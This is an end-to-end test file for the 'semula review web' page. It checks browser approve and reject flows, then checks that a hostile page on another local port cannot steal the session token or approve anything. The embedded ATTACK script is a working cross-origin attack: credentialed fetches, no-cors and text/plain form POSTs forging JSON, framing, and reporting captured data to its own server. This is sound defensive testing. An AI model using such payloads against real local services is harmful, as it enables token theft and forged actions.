"""`semula review web` in a real headless Chromium: the changed word is highlighted, a click on approve writes
the alias file the CLI writes, the `r` key rejects the next candidate, and the replay of the approved request
is a hit (tier alias). Then the attack the page must survive: with the page open, a page another local user
serves on another 127.0.0.1 port reads, fetches, frames and form-posts at it, and learns nothing and
approves nothing. The page, the proxy and the replay are all real processes."""

from __future__ import annotations

import json
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import ProxyFactory
from e2e_helpers import FakeProvider
from review_web_helpers import ask, open_candidates, queue_two, raw, start_review_web

pytestmark = pytest.mark.e2e
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
CHROMEDRIVER = shutil.which("chromedriver")

webdriver = pytest.importorskip("selenium.webdriver", reason="selenium is not installed (pip install -e '.[dev]')")
if not (CHROMIUM and CHROMEDRIVER):
    pytest.skip("headless Chromium and its driver are not installed (apt-get install -y chromium chromium-driver); "
                "tests/e2e/test_e2e_review_web_http.py checks the same server over raw HTTP",
                allow_module_level=True)

from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402


@pytest.fixture
def browser(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    from selenium.webdriver.chrome.service import Service

    monkeypatch.setenv("SE_OFFLINE", "true")  # Selenium Manager never downloads a driver: we name ours
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--no-proxy-server",
                "--window-size=1400,1800", f"--user-data-dir={tmp_path / 'chromium-profile'}"):
        options.add_argument(arg)
    driver = webdriver.Chrome(service=Service(executable_path=CHROMEDRIVER), options=options)
    try:
        yield driver
    finally:
        driver.quit()


def cards_by_word(browser) -> dict[str, Any]:
    found = WebDriverWait(browser, 15).until(lambda d: d.find_elements(By.CSS_SELECTOR, "article.card"))
    return {c.find_element(By.CSS_SELECTOR, ".incoming ins.w").text.strip(): c for c in found}


def test_approve_in_the_browser_writes_the_alias_and_the_replay_is_a_hit(proxy_factory: ProxyFactory,
                                                                          fake_provider: FakeProvider, browser,
                                                                          tmp_path: Path) -> None:
    from semula.review_web.launch import LaunchPage

    queue = queue_two(proxy_factory, tmp_path)
    folder = queue.folder
    web = start_review_web(queue.data_dir)
    try:
        browser.get(LaunchPage(web.url, str(tmp_path)).page.as_uri())  # what `review web` hands the browser: a file, not the token
        wait = WebDriverWait(browser, 15)
        cards = cards_by_word(browser)
        assert web.token not in browser.current_url, "the page drops the token from the address bar"
        assert sorted(cards) == ["local", "town"], "the changed word is highlighted on the request's side"
        # the filter form reloads the page: the token stays with this tab (sessionStorage), not in the URL
        browser.find_element(By.CSS_SELECTOR, "form.filters button[type=submit]").click()
        wait.until(lambda d: "?" in d.current_url)
        cards = cards_by_word(browser)
        assert sorted(cards) == ["local", "town"] and web.token not in browser.current_url, browser.current_url
        card, other_card = cards["town"], cards["local"]
        assert card.find_element(By.CSS_SELECTOR, ".recorded del.w").text.strip() == "city"
        town, local = card.get_attribute("data-id"), other_card.get_attribute("data-id")
        assert queue.secret not in browser.page_source
        first, second = browser.find_elements(By.CSS_SELECTOR, "article.card")
        body = browser.find_element(By.TAG_NAME, "body")
        for key, chosen in (("j", second), ("k", first)):  # next, previous
            body.send_keys(key)
            wait.until(lambda d: "current" in chosen.get_attribute("class"))

        card.find_element(By.CSS_SELECTOR, "button.approve").click()
        wait.until(lambda d: f"approved #{town}" in card.find_element(By.CSS_SELECTOR, ".result").text)
        aliases = list(folder.glob("*/_aliases/*.json"))
        assert len(aliases) == 1, sorted(p.relative_to(folder) for p in folder.rglob("*"))

        # approval selected the next open card: `r` rejects it
        wait.until(lambda d: "current" in other_card.get_attribute("class"))
        body.send_keys("r")
        wait.until(lambda d: f"rejected #{local}" in other_card.find_element(By.CSS_SELECTOR, ".result").text)
        screenshot = tmp_path / "review-web.png"
        browser.save_screenshot(str(screenshot))
        print(f"screenshot: {screenshot}")
        assert list(folder.glob("*/_rejections/*.json")), "a rejection is shared like the CLI's"
    finally:
        web.stop()

    before = fake_provider.count()
    headers, answer = ask(queue.client, queue.drifted, user="FAIL500")
    assert headers["x-semula-tier"] == "alias" and answer and fake_provider.count() == before, dict(headers)
    output = web.pump.text()
    assert "approved #" in output and "Traceback" not in output, output
    assert queue.secret not in output


# --- another local user's page on another port --------------------------------------------------------

ATTACK = """<!doctype html><html><body><h1>nothing to see</h1><script>
const R = 'http://127.0.0.1:REVIEW_PORT', ID = CANDIDATE_ID;
const report = (what, value) => fetch('/report', {method: 'POST', body: JSON.stringify({what, value: String(value)})});
const settle = (frame, start) => new Promise(done => { frame.addEventListener('load', () => done(), {once: true});
  start(); });
(async () => {
  const mine = {cookie: document.cookie, referrer: document.referrer, local: {...localStorage},
                session: {...sessionStorage}, opener: String(window.opener), history: history.length};
  await report('what this origin holds', JSON.stringify(mine));
  for (const path of ['/', '/api/queue']) {
    try { const r = await fetch(R + path, {credentials: 'include'}); await report('read ' + path, await r.text()); }
    catch (e) { await report('read ' + path, 'refused: ' + e); }
  }
  try { await fetch(R + '/api/approve', {method: 'POST', mode: 'no-cors', credentials: 'include',
          headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({id: ID})});
        await report('simple POST', 'sent (opaque answer)'); }
  catch (e) { await report('simple POST', 'refused: ' + e); }
  try { const r = await fetch(R + '/api/approve', {method: 'POST', credentials: 'include',
          headers: {'Content-Type': 'application/json', 'X-Semula-Token': 'guess'}, body: JSON.stringify({id: ID})});
        await report('preflighted POST', await r.text()); }
  catch (e) { await report('preflighted POST', 'refused: ' + e); }
  const frame = document.createElement('iframe');
  frame.id = 'framed';
  await settle(frame, () => { frame.src = R + '/'; document.body.append(frame); });
  try { await report('framed page', frame.contentDocument ? frame.contentDocument.body.innerText : 'no access'); }
  catch (e) { await report('framed page', 'refused: ' + e); }
  const sink = document.createElement('iframe');
  sink.name = 'sink';
  document.body.append(sink);
  const form = document.createElement('form');
  Object.assign(form, {method: 'POST', action: R + '/api/approve', enctype: 'text/plain', target: 'sink'});
  const field = document.createElement('input');
  Object.assign(field, {name: '{"id": ' + ID + ', "x": "', value: '"}'});
  form.append(field);
  document.body.append(form);
  await settle(sink, () => form.submit());
  await report('form POST', 'submitted');
  await report('done', '');
})();
</script></body></html>"""


class Attacker:
    """An HTTP server on its own 127.0.0.1 port that serves ATTACK and keeps everything it is sent."""

    def __init__(self, page: str) -> None:
        self.seen: list[dict[str, Any]] = []
        self.reports: list[dict[str, str]] = []
        self.lock = threading.Lock()
        self.done = threading.Event()  # the page reported "done": every attempt was made
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def _keep(self) -> bytes:
                body = self.rfile.read(int(self.headers.get("content-length") or 0))
                with attacker.lock:
                    attacker.seen.append({"method": self.command, "path": self.path,
                                          "headers": dict(self.headers.items()), "body": body.decode(errors="replace")})
                return body

            def do_GET(self) -> None:
                self._keep()
                text = page.encode() if self.path == "/" else b""
                self.send_response(200 if self.path == "/" else 404)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("content-length", str(len(text)))
                self.end_headers()
                self.wfile.write(text)

            def do_POST(self) -> None:
                body = self._keep()
                if self.path == "/report":
                    report = json.loads(body)
                    with attacker.lock:
                        attacker.reports.append(report)
                    if report["what"] == "done":
                        attacker.done.set()
                self.send_response(204)
                self.end_headers()

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self) -> Attacker:
        self.thread.start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join()

    def wait_done(self, timeout: float = 30) -> list[dict[str, str]]:
        if not self.done.wait(timeout):
            pytest.fail(f"the attacking page never finished: {self.reports}")
        with self.lock:
            return list(self.reports)

    def harvested(self) -> set[str]:
        """Every value it could try as the token: cookie values, query values, Referer, report values."""
        found: set[str] = set()
        for request in self.seen:
            headers = {k.lower(): v for k, v in request["headers"].items()}
            for part in headers.get("cookie", "").split(";"):
                found.add(part.partition("=")[2].strip())
            for part in request["path"].replace("?", "&").replace("#", "&").split("&"):
                found.add(part.partition("=")[2])
            found.add(headers.get("referer", ""))
        return {v for v in found if v}


def test_a_page_on_another_local_port_learns_nothing_and_approves_nothing(proxy_factory: ProxyFactory, browser,
                                                                          tmp_path: Path) -> None:
    queue = queue_two(proxy_factory, tmp_path)
    ids = sorted(c["id"] for c in open_candidates(queue.data_dir))
    web = start_review_web(queue.data_dir)
    try:
        browser.get(web.url)
        assert sorted(cards_by_word(browser)) == ["local", "town"]  # the page holds its token now
        review_tab = browser.current_window_handle
        page = ATTACK.replace("REVIEW_PORT", str(web.port)).replace("CANDIDATE_ID", str(ids[0]))
        with Attacker(page) as attacker:
            browser.switch_to.new_window("tab")
            browser.get(f"http://127.0.0.1:{attacker.port}/")
            reports = attacker.wait_done()
            browser.switch_to.frame(browser.find_element(By.ID, "framed"))
            framed = browser.find_element(By.TAG_NAME, "body").text
            browser.switch_to.default_content()
            # What another user does with whatever it caught: send it as the token, from its own server.
            for value in attacker.harvested():
                tried = raw(web.port, "POST", "/api/approve", {"id": ids[0]}, host=f"127.0.0.1:{web.port}",
                            x_semula_token=value)
                assert tried.status != 200, (value, tried)
            everything = json.dumps([attacker.seen, reports])
            print("the attacking page saw:", json.dumps(reports, indent=1), "framed:", repr(framed))
        assert web.token not in everything, f"the other port's server learnt the token: {everything}"
        assert queue.tag not in everything, f"the other port's page read the queue: {reports}"
        assert "semula review" not in framed, f"the review page was framed: {framed!r}"
        assert sorted(c["id"] for c in open_candidates(queue.data_dir)) == ids, "nothing was approved"
        assert not list(queue.folder.glob("*/_aliases/*.json"))

        browser.switch_to.window(review_tab)  # the user's own page still works
        card = cards_by_word(browser)["town"]
        card.find_element(By.CSS_SELECTOR, "button.approve").click()
        WebDriverWait(browser, 15).until(lambda d: "approved #" in card.find_element(By.CSS_SELECTOR, ".result").text)
    finally:
        web.stop()
    assert len(list(queue.folder.glob("*/_aliases/*.json"))) == 1
